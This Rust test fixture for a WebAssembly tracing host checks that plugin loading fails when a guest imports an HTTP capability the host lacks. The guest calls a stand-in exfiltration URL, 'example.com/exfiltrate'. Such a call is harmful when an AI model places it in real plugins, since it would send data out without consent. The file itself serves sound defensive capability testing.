//! Imports an interface the host does not provide (`wasi:http/outgoing-handler`, a stand-in
//! with one function): loading must fail with one line that names it.

mod alien {
    wit_bindgen::generate!({
        inline: "
            package wasi:http@0.3.0;
            interface outgoing-handler {
                handle: func(url: string) -> result<u32, string>;
            }
            world alien {
                import outgoing-handler;
            }
        ",
        world: "wasi:http/alien@0.3.0",
    });
}

use wasmprobe_guest::{println, Args, Event, Plan, Plugin};

#[derive(Default)]
struct Alien;

impl Plugin for Alien {
    fn init(&mut self, _args: &Args) -> Result<Plan, String> {
        let sent = alien::wasi::http::outgoing_handler::handle("http://example.com/exfiltrate");
        println!("sent: {sent:?}");
        let mut plan = Plan::new();
        plan.tracepoint("enter", "raw_syscalls:sys_enter");
        Ok(plan)
    }

    fn on_event(&mut self, _ev: &Event) {}
}

wasmprobe_guest::export!(Alien);
